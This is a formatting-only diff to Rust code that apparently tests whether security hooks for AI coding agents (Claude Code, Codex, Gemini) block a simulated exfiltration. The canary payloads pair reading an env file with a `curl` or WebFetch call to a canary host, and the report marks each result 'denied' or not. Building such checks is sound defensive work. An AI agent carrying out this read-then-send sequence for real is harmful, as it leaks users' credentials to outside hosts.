@@ -244,8 +244,10 @@ fn canary_payloads(agent: Agent, session: &str, dir: &Path) -> Option<(Value, Va
     let cwd = dir.display().to_string();
     let url = format!("https://{CANARY_HOST}/c?k={CANARY_KEY}");
     let curl = format!("curl -s '{url}'");
-    let base = |event: &str| json!({"session_id": session, "cwd": cwd, "hook_event_name": event,
-        "transcript_path": dir.join("transcript.jsonl").display().to_string()});
+    let base = |event: &str| {
+        json!({"session_id": session, "cwd": cwd, "hook_event_name": event,
+        "transcript_path": dir.join("transcript.jsonl").display().to_string()})
+    };
     let merge = |mut v: Value, extra: Value| {
         if let (Some(o), Value::Object(e)) = (v.as_object_mut(), extra) {
             o.extend(e);
@@ -254,24 +256,42 @@ fn canary_payloads(agent: Agent, session: &str, dir: &Path) -> Option<(Value, Va
     };
     match agent {
         Agent::ClaudeCode => Some((
-            merge(base("PostToolUse"), json!({"tool_name": "Read", "tool_use_id": "toolu_canary_1",
+            merge(
+                base("PostToolUse"),
+                json!({"tool_name": "Read", "tool_use_id": "toolu_canary_1",
                 "tool_input": {"file_path": env_path},
                 "tool_response": {"type": "text", "file": {"filePath": env_path, "content": content,
-                    "numLines": 1, "startLine": 1, "totalLines": 1}}})),
-            merge(base("PreToolUse"), json!({"tool_name": "WebFetch", "tool_use_id": "toolu_canary_2",
-                "tool_input": {"url": url, "prompt": "summarise"}})),
+                    "numLines": 1, "startLine": 1, "totalLines": 1}}}),
+            ),
+            merge(
+                base("PreToolUse"),
+                json!({"tool_name": "WebFetch", "tool_use_id": "toolu_canary_2",
+                "tool_input": {"url": url, "prompt": "summarise"}}),
+            ),
         )),
         Agent::Codex => Some((
-            merge(base("PostToolUse"), json!({"tool_name": "Bash", "tool_use_id": "call_canary_1", "turn_id": "1",
-                "tool_input": {"command": format!("cat {env_path}")}, "tool_response": content})),
-            merge(base("PreToolUse"), json!({"tool_name": "Bash", "tool_use_id": "call_canary_2", "turn_id": "1",
-                "tool_input": {"command": curl}})),
+            merge(
+                base("PostToolUse"),
+                json!({"tool_name": "Bash", "tool_use_id": "call_canary_1", "turn_id": "1",
+                "tool_input": {"command": format!("cat {env_path}")}, "tool_response": content}),
+            ),
+            merge(
+                base("PreToolUse"),
+                json!({"tool_name": "Bash", "tool_use_id": "call_canary_2", "turn_id": "1",
+                "tool_input": {"command": curl}}),
+            ),
         )),
         Agent::Gemini => Some((
-            merge(base("AfterTool"), json!({"tool_name": "read_file", "tool_input": {"file_path": env_path},
-                "tool_response": {"llmContent": content, "returnDisplay": ""}})),
-            merge(base("BeforeTool"), json!({"tool_name": "run_shell_command",
-                "tool_input": {"command": curl, "description": "canary"}})),
+            merge(
+                base("AfterTool"),
+                json!({"tool_name": "read_file", "tool_input": {"file_path": env_path},
+                "tool_response": {"llmContent": content, "returnDisplay": ""}}),
+            ),
+            merge(
+                base("BeforeTool"),
+                json!({"tool_name": "run_shell_command",
+                "tool_input": {"command": curl, "description": "canary"}}),
+            ),
         )),
         Agent::Cursor => None,
     }
@@ -309,7 +329,9 @@ fn run_hook(command: &str, payload: &Value, cwd: &Path) -> Result<(String, Strin
     let stderr = String::from_utf8_lossy(&out.stderr).trim().to_owned();
     match out.status.code() {
         Some(0) => Ok((stdout, stderr)),
-        Some(code) => Err(format!("exit code {code}{}", if stderr.is_empty() { String::new() } else { format!(": {stderr}") })),
+        Some(code) => {
+            Err(format!("exit code {code}{}", if stderr.is_empty() { String::new() } else { format!(": {stderr}") }))
+        }
         None => Err("killed by a signal".into()),
     }
 }
@@ -411,7 +433,11 @@ fn print_report(r: &Report) {
     }
     println!("coverage    {}", d.coverage);
     for k in &r.canaries {
-        let outcome = if k.outcome == "denied" { paint("denied", Colour::Green, colour) } else { paint(&k.outcome, Colour::Red, colour) };
+        let outcome = if k.outcome == "denied" {
+            paint("denied", Colour::Green, colour)
+        } else {
+            paint(&k.outcome, Colour::Red, colour)
+        };
         println!("canary      {} {}: {outcome}", k.agent, k.scope);
     }
     for n in &r.notes {
